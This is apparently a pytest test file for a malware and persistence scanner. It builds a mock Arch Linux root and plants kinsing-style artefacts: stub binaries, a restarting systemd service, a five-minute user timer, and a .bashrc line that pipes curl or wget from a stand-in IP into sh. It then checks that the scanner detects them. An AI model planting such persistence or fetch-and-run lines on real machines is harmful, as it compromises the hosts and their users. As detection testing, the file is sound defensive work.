"""A mounted Arch Linux root as the second seed's author had it: his timers, his packages, and what was planted."""

from __future__ import annotations

from pathlib import Path
from typing import NamedTuple

import pytest
from tests.unit.arch.workstation import BASHRC, HOME, USER, put, workstation

from davy.host import at
from davy.knowledge.schedules import in_words
from davy.model.autostarts import Autostart, AutostartKind
from davy.model.incidents import Actor, Judgement, Verdict
from davy.model.snapshot import Snapshot
from davy.scan import scan

_UNITS = "/usr/lib/systemd/system"
_ELF = b"\x7fELF\x02\x01\x01" + bytes(120)


class Looked(NamedTuple):
    snapshot: Snapshot
    judgement: Judgement

    def autostarts(self, path: str) -> list[Autostart]:
        return [each for each in self.snapshot.autostarts if each.path == path]

    @property
    def actors(self) -> dict[tuple[str | None, int | None], Actor]:
        return {(actor.path, actor.line): actor for one in self.judgement.incidents for actor in one.actors}


def _looked(root: Path) -> Looked:
    return Looked(*scan(at(str(root))))


@pytest.fixture(scope="module")
def before(tmp_path_factory: pytest.TempPathFactory) -> Looked:
    root = tmp_path_factory.mktemp("arch")
    workstation(root)
    return _looked(root)


@pytest.fixture(scope="module")
def after(tmp_path_factory: pytest.TempPathFactory) -> Looked:
    root = tmp_path_factory.mktemp("arch")
    workstation(root)
    _break_in(root)
    return _looked(root)


def _break_in(root: Path) -> None:
    """What kinsing leaves, and where else it might come back from: a user's timer, a service, a line of a profile."""
    put(root, "tmp/kdevtmpfsi", _ELF + b"kdevtmpfsi", uid=1000, mode=0o755)
    put(root, "var/tmp/kinsing", _ELF + b"kinsing", uid=1000, mode=0o755)
    put(root, "etc/systemd/system/bot.service", "[Service]\nExecStart=/var/tmp/kinsing\nRestart=always\n")
    wants = root / "etc/systemd/system/multi-user.target.wants"
    wants.mkdir()
    (wants / "bot.service").symlink_to("/etc/systemd/system/bot.service")
    own = f"{HOME}/.config/systemd/user"
    put(root, f"{own}/update.timer", "[Timer]\nOnCalendar=*:0/5\nUnit=update.service\n", uid=1000)
    put(root, f"{own}/update.service", "[Service]\nType=oneshot\nExecStart=/tmp/kdevtmpfsi\n", uid=1000)
    (root / own / "timers.target.wants").mkdir()
    (root / own / "timers.target.wants/update.timer").symlink_to("../update.timer")
    with (root / HOME / ".bashrc").open("a") as profile:
        profile.write("(curl -fsSL http://192.0.2.7/f.sh || wget -qO- http://192.0.2.7/f.sh) | sh\n")


_TIMERS = [
    ("man-db", "OnCalendar=daily", "at 00:00 every day"),
    ("shadow", "OnCalendar=daily", "at 00:00 every day"),
    (
        "systemd-tmpfiles-clean",
        "OnBootSec=15min; OnUnitActiveSec=1d",
        "15 minutes after the machine starts; 1 day after it last started",
    ),
]


@pytest.mark.parametrize(("name", "schedule", "words"), _TIMERS)
def test_his_three_timers_are_read_as_he_read_them(before: Looked, name: str, schedule: str, words: str) -> None:
    (timer,) = before.autostarts(f"{_UNITS}/{name}.timer")
    assert (timer.kind, timer.unit, timer.activates) == (AutostartKind.TIMER, f"{name}.timer", f"{name}.service")
    assert timer.links == (f"{_UNITS}/timers.target.wants/{name}.timer",)
    assert timer.schedule == schedule
    assert in_words(timer.schedule) == words


def test_there_is_no_other_timer_and_no_cron(before: Looked) -> None:
    scheduled = {AutostartKind.TIMER, AutostartKind.CRON, AutostartKind.CRON_SCRIPT, AutostartKind.ANACRON}
    found = [each.path for each in before.snapshot.autostarts if each.kind in scheduled]
    assert sorted(found) == sorted(f"{_UNITS}/{name}.timer" for name, _, _ in _TIMERS)


@pytest.mark.parametrize(
    ("path", "package"),
    [
        (f"{_UNITS}/man-db.service", "man-db"),
        (f"{_UNITS}/shadow.timer", "shadow"),
        (f"{_UNITS}/systemd-tmpfiles-clean.service", "systemd"),
        ("/etc/profile", "filesystem"),
        ("/etc/pam.d/system-auth", "pambase"),
        ("/etc/ld.so.conf.d/cuda.conf", "cuda"),
        ("/etc/xdg/autostart/gnome-keyring-ssh.desktop", "gnome-keyring"),
        ("/usr/share/libalpm/hooks/30-systemd-daemon-reload.hook", "systemd"),
    ],
)
def test_what_pacman_installed_is_its_packages_and_unmodified(before: Looked, path: str, package: str) -> None:
    found = before.autostarts(path)
    assert found
    assert {(each.owner_package, each.unmodified, each.vendor) for each in found} == {(package, True, True)}


def test_a_packages_unit_that_somebody_changed_is_no_longer_its_vendors(tmp_path: Path) -> None:
    workstation(tmp_path)
    with (tmp_path / f"{_UNITS[1:]}/man-db.service").open("a") as unit:
        unit.write("ExecStartPost=/var/tmp/kinsing\n")
    looked = _looked(tmp_path)
    (unit,) = looked.autostarts(f"{_UNITS}/man-db.service")
    assert (unit.owner_package, unit.unmodified, unit.vendor) == ("man-db", False, False)
    assert {actor.path for actor in looked.actors.values()} == {f"{_UNITS}/man-db.service"}


def test_nobody_is_accused_before_the_break_in(before: Looked) -> None:
    assert before.judgement.verdict is Verdict.CLEAN
    assert before.judgement.incidents == ()
    assert before.snapshot.gaps == ()


def test_everything_planted_is_found_and_nothing_else_is_accused(after: Looked) -> None:
    own = f"/{HOME}/.config/systemd/user"
    assert set(after.actors) == {
        ("/tmp/kdevtmpfsi", None),
        ("/var/tmp/kinsing", None),
        ("/etc/systemd/system/bot.service", None),
        (f"{own}/update.service", None),
        (f"{own}/update.timer", None),
        (f"/{HOME}/.bashrc", BASHRC.count("\n") + 1),
    }
    assert "kinsing" in {one.family for one in after.judgement.incidents}


def test_the_users_own_entries_are_listed_as_his(after: Looked) -> None:
    (timer,) = after.autostarts(f"/{HOME}/.config/systemd/user/update.timer")
    assert (timer.user, timer.schedule) == (USER, "OnCalendar=*:0/5")
    lines = {each.command: each for each in after.autostarts(f"/{HOME}/.bashrc")}
    assert all(each.user == USER for each in lines.values())
    assert any("192.0.2.7" in command for command in lines)
